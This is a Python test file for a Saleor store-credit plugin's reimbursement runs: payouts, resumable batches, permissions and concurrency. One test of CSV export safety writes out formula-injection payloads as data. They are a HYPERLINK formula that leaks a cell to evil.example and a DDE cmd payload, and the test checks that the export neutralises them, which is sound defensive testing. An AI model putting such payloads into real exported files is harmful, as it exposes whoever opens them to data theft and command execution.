"""Reimbursement runs inside real Saleor (its customers, orders, Celery in eager mode)."""

import csv
import io
import time
from decimal import Decimal

import pytest

from ._saleor import SKIP_REASON

pytest.importorskip("saleor", reason=SKIP_REASON)

import graphene  # noqa: E402

from saleor.account.models import User  # noqa: E402

from saleor_store_credit.errors import StoreCreditError  # noqa: E402
from saleor_store_credit.ledger import Actor, ledger_verify, place_hold  # noqa: E402
from saleor_store_credit.models import (  # noqa: E402
    Account,
    Entry,
    Payout,
    ReimbursementRun,
)
from saleor_store_credit.reimbursement import (  # noqa: E402
    RunSpec,
    process_run,
    resolve_payout,
    start_run,
)

from saleor_store_credit.payouts import set_payout_details  # noqa: E402

from .test_checkout import fund, grant  # noqa: E402

START = """
mutation ($input: ReimbursementRunInput!, $key: String) {
  reimbursementRunStart(input: $input, idempotencyKey: $key) {
    run { id status progress { selected processed percent } payoutCount total { amount currency }
          payouts { id amount { amount } payeeEmail detailsMissing status } csv }
    errors { field code message }
  }
}
"""
PREVIEW = """
query ($input: ReimbursementRunInput!) { reimbursementRunPreview(input: $input) {
  count total { amount currency } skipped accounts { email amount { amount } detailsMissing } } }
"""
RESOLVE = """
mutation ($id: ID!, $note: String) { %s(id: $id, note: $note) {
  payout { status } errors { code message } } }
"""


RUN = """
query ($id: ID!) { reimbursementRun(id: $id) {
  id status progress { selected processed percent } payoutCount total { amount currency }
  payouts { id amount { amount } payeeEmail detailsMissing status } csv } }
"""

RUN_FULL_CSV = """
query ($id: ID!) { reimbursementRun(id: $id) { csv(fullPayoutAccounts: true) } }
"""


def start(client, input, key=None):
    """Start a run; Celery (eager in tests) processes it after the commit."""
    content = client.query(START, {"input": input, "key": key})
    payload = content["data"]["reimbursementRunStart"]
    if payload["errors"]:
        return payload
    run = client.query(RUN, {"id": payload["run"]["id"]})["data"]["reimbursementRun"]
    return {"run": run, "errors": []}


def customers(*amounts, currency="USD"):
    users = []
    for index, amount in enumerate(amounts):
        user = User.objects.create(email=f"c{index}-{time.time_ns()}@example.com",
                                   first_name=f"Cust{index}", is_active=True)
        if amount:
            fund(user, amount, currency)
        users.append(user)
    return users


@pytest.fixture
def finance(sc_client, staff_user, permission_manage_users, permission_manage_payments):
    grant(staff_user, permission_manage_users, permission_manage_payments)
    return sc_client(user=staff_user)


def balance(user, currency="USD"):
    return Account.objects.get(user=user, currency=currency).balance


def test_preview_selects_balances_at_or_above_the_minimum(finance):
    low, exact, high = customers("4.99", "5.00", "20.00")
    customers("50.00", currency="EUR")
    set_payout_details(user=high, account_number="NL91ABNA0417164300", actor=Actor.system())

    result = finance.query(PREVIEW, {"input": {"currency": "USD", "minimumAmount": "5"}})[
        "data"]["reimbursementRunPreview"]

    assert result["count"] == 2
    assert result["total"] == {"amount": 25, "currency": "USD"}
    emails = {a["email"]: a["detailsMissing"] for a in result["accounts"]}
    assert emails == {exact.email: True, high.email: False}
    assert not Payout.objects.exists()  # a preview changes nothing


def test_run_pays_out_selected_balances_and_skips_held_customers(finance, order):
    paid, on_hold, with_order, small = customers("30.00", "40.00", "25.00", "1.00")
    place_hold(account=Account.objects.get(user=on_hold), amount="1", actor=Actor.system())
    order.user = with_order
    order.status = "unconfirmed"
    order.save(update_fields=["user", "status"])

    run = start(finance, {"currency": "USD", "minimumAmount": "5.00"})

    assert run["errors"] == []
    view = run["run"]
    assert view["status"] == "COMPLETED"  # Celery runs eagerly in tests
    assert view["progress"] == {"selected": 1, "processed": 1, "percent": 100.0}
    assert [p["payeeEmail"] for p in view["payouts"]] == [paid.email]
    assert view["payouts"][0]["detailsMissing"] is True
    assert balance(paid) == 0
    assert balance(on_hold) == Decimal("40.00")
    assert balance(with_order) == Decimal("25.00")
    assert balance(small) == Decimal("1.00")
    rows = list(csv.DictReader(io.StringIO(view["csv"])))
    assert rows[0]["payee_email"] == paid.email and rows[0]["amount"] == "30.00"
    assert rows[0]["details_missing"] == "yes"
    assert ledger_verify().ok


def test_filters_by_customer_and_email(finance):
    first, second, third = customers("10", "10", "10")
    ids = [graphene.Node.to_global_id("User", first.pk), graphene.Node.to_global_id("User", second.pk)]

    run = start(finance, {
        "currency": "USD", "minimumAmount": "1", "customerIds": ids, "email": second.email[:6],
    })["run"]

    assert [p["payeeEmail"] for p in run["payouts"]] == [second.email]
    assert balance(first) == balance(third) == Decimal("10.00")


def test_minimum_defaults_to_the_plugin_configuration(finance):
    customers("3.00")
    content = finance.query(START, {"input": {"currency": "USD"}})
    errors = content["data"]["reimbursementRunStart"]["errors"]
    assert errors[0]["field"] == "minimumAmount"


@pytest.mark.parametrize("store_credit_config", [{"minimum_reimbursement_amount": "2.50"}])
def test_configured_minimum_is_used(finance, store_credit_config):
    customers("2.49", "2.50")
    run = start(finance, {"currency": "USD"})["run"]
    assert run["payoutCount"] == 1


def test_crash_in_the_middle_then_resume_pays_nobody_twice(store_credit_plugin):
    users = customers(*["7.00"] * 25)
    run = ReimbursementRun.objects.create(
        currency="USD", minimum_amount=Decimal("1"), selected_count=25,
        **Actor.system().entry_fields(),
    )

    # the worker dies in the middle of the second batch: that batch rolls back whole
    with pytest.raises(RuntimeError):
        process_run(run.pk, batch_size=10, crash_after=13)
    assert Payout.objects.count() == 10
    run.refresh_from_db()
    assert run.cursor_account_id > 0 and run.status == "running"

    assert process_run(run.pk, batch_size=10) == "completed"
    assert process_run(run.pk, batch_size=10) == "completed"  # a second resume: no-op

    assert Payout.objects.count() == 25
    assert Payout.objects.values("account").distinct().count() == 25
    assert Entry.objects.filter(kind="payout").count() == 25
    assert all(balance(user) == 0 for user in users)
    run.refresh_from_db()
    assert (run.status, run.payout_count, run.total_amount) == ("completed", 25, Decimal("175.00"))
    assert ledger_verify().ok


@pytest.mark.parametrize(("mutation", "status", "recredit"), [
    ("payoutMarkPaid", "PAID", False), ("payoutMarkFailed", "FAILED", True),
    ("payoutVoid", "VOIDED", True),
])
def test_payout_lifecycle_recredits_failed_and_voided_exactly_once(
    finance, mutation, status, recredit
):
    (user,) = customers("12.00")
    run = start(finance, {"currency": "USD", "minimumAmount": "1"})["run"]
    payout_id = run["payouts"][0]["id"]

    first = finance.query(RESOLVE % mutation, {"id": payout_id, "note": "bank said no"})
    second = finance.query(RESOLVE % mutation, {"id": payout_id, "note": "again"})

    assert first["data"][mutation]["payout"]["status"] == status
    assert second["data"][mutation]["errors"][0]["code"] == "PAYOUT_NOT_PENDING"
    assert balance(user) == (Decimal("12.00") if recredit else Decimal("0"))
    assert Entry.objects.filter(kind="payout_reversal").count() == (1 if recredit else 0)
    assert ledger_verify().ok


def test_a_paid_payout_cannot_be_voided(store_credit_plugin):
    (user,) = customers("5.00")
    run = start_run(spec=RunSpec("USD", Decimal("1")), actor=Actor.system())
    process_run(run.pk)
    payout = Payout.objects.get(run=run)
    resolve_payout(payout_id=payout.pk, status="paid", actor=Actor.system())
    with pytest.raises(StoreCreditError):
        resolve_payout(payout_id=payout.pk, status="voided", actor=Actor.system())
    assert balance(user) == 0


def test_runs_need_manage_users_and_handle_payments(sc_client, staff_user, permission_manage_users):
    grant(staff_user, permission_manage_users)
    content = sc_client(user=staff_user).query(
        START, {"input": {"currency": "USD", "minimumAmount": "1"}}
    )
    assert content["errors"][0]["extensions"]["exception"]["code"] == "PermissionDenied"
    assert not ReimbursementRun.objects.exists()


def test_ten_thousand_accounts_in_one_run(store_credit_plugin, caplog):
    # given 10 000 customers with 3.00 each (bulk-loaded; the ledger stays consistent)
    count = 10_000
    stamp = time.time_ns()
    users = User.objects.bulk_create(
        [User(email=f"bulk{i}-{stamp}@example.com", is_active=True) for i in range(count)]
    )
    accounts = Account.objects.bulk_create(
        [Account(user=u, email=u.email, currency="USD", balance=Decimal("3.00"), entry_count=1)
         for u in users]
    )
    Entry.objects.bulk_create(
        [Entry(account=a, direction="credit", amount=Decimal("3.00"),
               balance_after=Decimal("3.00"), kind="adjustment", actor_type="system")
         for a in accounts]
    )
    run = ReimbursementRun.objects.create(
        currency="USD", minimum_amount=Decimal("1"), selected_count=count,
        **Actor.system().entry_fields(),
    )

    # when
    caplog.set_level("INFO", logger="saleor_store_credit.reimbursement")
    assert process_run(run.pk, batch_size=1000) == "completed"

    # then
    run.refresh_from_db()
    assert run.payout_count == count
    assert run.total_amount == Decimal("30000.00")
    assert run.processed_count == count
    assert not Account.objects.filter(currency="USD", balance__gt=0).exists()
    progress = [r.getMessage() for r in caplog.records if "accounts processed" in r.getMessage()]
    assert len(progress) == 10  # one line per batch of 1 000
    assert progress[-1].endswith("10000/10000 accounts processed, 10000 payouts")
    assert ledger_verify().ok


def test_channel_filter_selects_customers_with_orders_in_that_channel(finance, order):
    buyer, other = customers("10.00", "10.00")
    order.user = buyer
    order.save(update_fields=["user"])  # the fixture order is FULFILLED-like, not held

    run = start(finance, {"currency": "USD", "minimumAmount": "1",
                          "channel": order.channel.slug})["run"]

    assert [p["payeeEmail"] for p in run["payouts"]] == [buyer.email]
    assert balance(other) == Decimal("10.00")


def test_payout_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(finance):
    # given a customer whose name, payout account and payout reference are formulas
    (user,) = customers("12.00")
    user.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    user.last_name = ""
    user.save(update_fields=["first_name", "last_name"])
    set_payout_details(user=user, account_number="+31-2+3", actor=Actor.system())
    run = start(finance, {"currency": "USD", "minimumAmount": "1"})["run"]
    payout = Payout.objects.get(run_id=graphene.Node.from_global_id(run["id"])[1])
    resolve_payout(payout_id=payout.pk, status="paid", actor=Actor.system(),
                   reference="@SUM(1+1)*cmd|' /C calc'!A0")
    Payout.objects.filter(pk=payout.pk).update(payee_address="-1+2\n\tTab\n\rCR")

    # when (bank accounts in full: masked ones start with "****")
    view = finance.query(RUN_FULL_CSV, {"id": run["id"]})["data"]["reimbursementRun"]

    # then every cell starting with = + - @ tab or CR is prefixed with a single quote
    (row,) = list(csv.DictReader(io.StringIO(view["csv"])))
    assert row["payee_name"] == "'" + user.first_name
    assert row["payout_account"] == "'+31-2+3"
    assert row["reference"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["payee_address"] == "'-1+2\n\tTab\n\rCR"
    # plain numbers stay numbers
    assert row["amount"] == "12.00"
    assert row["payout_id"] == str(payout.pk)


# --- set-based batches (issue 20): one statement per batch -------------------------


def _reference_payee(user) -> dict:
    """What a payout says about its payee, from Saleor's own objects (the rule the
    batch statement implements in SQL)."""
    address = user.default_billing_address
    lines = []
    if address:
        lines = [address.street_address_1, address.street_address_2,
                 f"{address.postal_code} {address.city}".strip(), str(address.country)]
    details = getattr(user, "store_credit_payout_details", None)
    account_ref = details.account_number if details else ""
    return {
        "payee_name": (user.get_full_name() or user.email)[:255],
        "payee_email": user.email,
        "payee_address": "\n".join(line for line in lines if line),
        "payout_account": account_ref,
        "details_missing": not account_ref,
    }


def test_payouts_name_the_payee_as_saleor_does(store_credit_plugin):
    from saleor.account.models import Address

    # given customers whose names come from the profile, the billing address, or
    # nowhere (then the e-mail); names padded with the whitespace Python strips
    # (tab, no-break space, ideographic space); an address with empty lines
    plain, from_address, nameless, padded, spaces_only, long_name = customers(*["5.00"] * 6)
    plain.first_name, plain.last_name = "Ada", "Lovelace"
    padded.first_name, padded.last_name = "\t\u00a0Grace", "Hopper\u3000 "
    spaces_only.first_name = "   "
    long_name.first_name, long_name.last_name = "A" * 200, "B" * 100
    from_address.default_billing_address = Address.objects.create(
        first_name="Jan", last_name="", street_address_1="Tęczowa 7", street_address_2="",
        city="WROCŁAW", postal_code="", country="PL")
    plain.default_billing_address = Address.objects.create(
        first_name="Not", last_name="Used", street_address_1="Main 1",
        street_address_2="2nd floor", city="Utrecht", postal_code="3511 AB", country="NL")
    for user in (plain, from_address, padded, spaces_only, long_name):
        user.save()
    set_payout_details(user=plain, account_number="NL91ABNA0417164300", actor=Actor.system())

    # when
    run = start_run(spec=RunSpec("USD", Decimal("1")), actor=Actor.system())
    process_run(run.pk)

    # then every payout says what Saleor's objects say
    fields = list(_reference_payee(plain))
    for user in (plain, from_address, nameless, padded, spaces_only, long_name):
        user = User.objects.select_related(
            "default_billing_address", "store_credit_payout_details").get(pk=user.pk)
        payout = Payout.objects.get(run=run, account__user=user)
        assert {f: getattr(payout, f) for f in fields} == _reference_payee(user), user.email
    assert Payout.objects.get(account__user=padded).payee_name == "Grace Hopper"
    assert Payout.objects.get(account__user=from_address).payee_address == "Tęczowa 7\nWROCŁAW\nPL"
    assert Payout.objects.get(account__user=plain).payee_address == (
        "Main 1\n2nd floor\n3511 AB Utrecht\nNL")
    assert ledger_verify().ok


@pytest.mark.parametrize("store_credit_config", [
    {"webhook_target_urls": "https://accounting.example/hook", "webhook_secret": "s3cret"}])
def test_each_payout_of_a_batch_is_announced_once_per_event(store_credit_plugin, store_credit_config):
    from saleor_store_credit.models import WebhookDelivery

    # given three customers, paid in batches of two
    users = customers("5.00", "6.00", "7.00")
    run = ReimbursementRun.objects.create(
        currency="USD", minimum_amount=Decimal("1"), selected_count=3,
        **Actor.system().entry_fields(),
    )
    WebhookDelivery.objects.all().delete()  # the credits' own events

    # when
    process_run(run.pk, batch_size=2)

    # then one payout_created and one balance_changed outbox row per payout
    rows = list(WebhookDelivery.objects.order_by("pk"))
    created = [r.payload["data"] for r in rows if r.event == "store_credit.payout_created"]
    changed = [r.payload["data"] for r in rows if r.event == "store_credit.balance_changed"]
    assert len(rows) == 6
    assert sorted((d["customer_user_id"], d["amount"]) for d in created) == sorted(
        (u.pk, f"{a}.00") for u, a in zip(users, (5, 6, 7)))
    assert {d["payout_id"] for d in created} == set(run.payouts.values_list("pk", flat=True))
    assert sorted((d["customer_user_id"], d["delta"], d["balance_after"]) for d in changed) == \
        sorted((u.pk, f"-{a}.00", "0.00") for u, a in zip(users, (5, 6, 7)))
    assert all(d["origin"]["kind"] == "payout" for d in changed)
    assert len({r.event_id for r in rows}) == 6


@pytest.mark.django_db(transaction=True)
def test_a_worker_killed_inside_a_batch_statement_then_resumed_pays_everyone_once(
    store_credit_plugin,
):
    import threading

    from django.db import OperationalError, connection, connections

    from tests.ledger.chain import broken_links

    # given 30 customers, and another client holding the row of the 15th so that the
    # worker's second batch (accounts 11-20) waits inside its statement
    users = customers(*["4.00"] * 30)
    accounts = list(Account.objects.filter(user__in=users).order_by("pk"))
    run = ReimbursementRun.objects.create(
        currency="USD", minimum_amount=Decimal("1"), selected_count=30,
        **Actor.system().entry_fields(),
    )
    outcome = []

    def worker():
        connections["replica"] = connections["default"]
        try:
            outcome.append(process_run(run.pk, batch_size=10))
        except OperationalError as exc:
            outcome.append(exc)
        finally:
            connection.close()

    blocker = psycopg_connect()
    with blocker.transaction():
        blocker.execute("SELECT 1 FROM saleor_store_credit_account WHERE id = %s FOR UPDATE",
                        [accounts[14].pk])
        thread = threading.Thread(target=worker)
        thread.start()
        pid = _wait_for_blocked_backend(blocker)
        # when the worker's connection dies in the middle of that statement
        blocker.execute("SELECT pg_terminate_backend(%s)", [pid])
        thread.join(30)
    blocker.close()

    # then the first batch stands, the second left nothing behind
    assert isinstance(outcome[0], OperationalError)
    assert Payout.objects.filter(run=run).count() == 10
    run.refresh_from_db()
    assert (run.status, run.payout_count, run.cursor_account_id) == (
        "running", 10, accounts[9].pk)

    # when the run is resumed (twice)
    assert process_run(run.pk, batch_size=10) == "completed"
    assert process_run(run.pk, batch_size=10) == "completed"

    # then everyone was paid exactly once
    assert Payout.objects.filter(run=run).count() == 30
    assert Entry.objects.filter(kind="payout").count() == 30
    assert all(balance(user) == 0 for user in users)
    run.refresh_from_db()
    assert (run.payout_count, run.total_amount, run.processed_count) == (
        30, Decimal("120.00"), 30)
    assert broken_links() == []
    assert ledger_verify().ok


def psycopg_connect():
    import psycopg
    from django.db import connection

    s = connection.settings_dict
    return psycopg.connect(host=s["HOST"] or "127.0.0.1", port=s["PORT"] or 5432,
                           dbname=s["NAME"], user=s["USER"], password=s["PASSWORD"] or "",
                           autocommit=True)


def _wait_for_blocked_backend(conn, timeout=30.0):
    """The pid of the backend waiting for a row lock held by `conn`."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with psycopg_connect() as probe:
            row = probe.execute(
                "SELECT pid FROM pg_stat_activity WHERE %s = ANY(pg_blocking_pids(pid))",
                [conn.info.backend_pid]).fetchone()
        if row:
            return row[0]
        time.sleep(0.05)
    raise AssertionError("the worker never waited for the locked account")


@pytest.mark.django_db(transaction=True)
def test_holds_placed_while_a_run_pays_are_never_overdrawn(store_credit_plugin):
    import threading

    from django.db import connection, connections

    from saleor_store_credit.errors import InsufficientFunds
    from tests.ledger.chain import broken_links

    # given 200 customers with 5.00 each; shoppers reserve 3.00 on every other one
    users = customers(*["5.00"] * 200)
    accounts = list(Account.objects.filter(user__in=users).order_by("pk"))
    run = ReimbursementRun.objects.create(
        currency="USD", minimum_amount=Decimal("1"), selected_count=200,
        **Actor.system().entry_fields(),
    )
    holds, refused = [], []
    start = threading.Barrier(2)

    def shoppers():
        connections["replica"] = connections["default"]
        start.wait()
        try:
            for account in accounts[::-2]:
                try:
                    holds.append(place_hold(account=account.pk, amount="3.00",
                                            actor=Actor.system()))
                except InsufficientFunds:
                    refused.append(account.pk)
        finally:
            connection.close()

    # when the run and the shoppers race
    thread = threading.Thread(target=shoppers)
    thread.start()
    start.wait()
    assert process_run(run.pk, batch_size=7) == "completed"
    thread.join(60)

    # then every account was either paid in full or reserved, never both
    paid = set(Payout.objects.filter(run=run).values_list("account_id", flat=True))
    held = {hold.account_id for hold in holds}
    assert paid.isdisjoint(held)
    assert set(refused) <= paid
    assert len(held) + len(refused) == 100
    for account in Account.objects.filter(pk__in=[a.pk for a in accounts]):
        if account.pk in paid:
            assert (account.balance, account.held) == (0, 0)
        else:
            assert account.balance == Decimal("5.00")
    assert broken_links() == []
    assert ledger_verify().ok
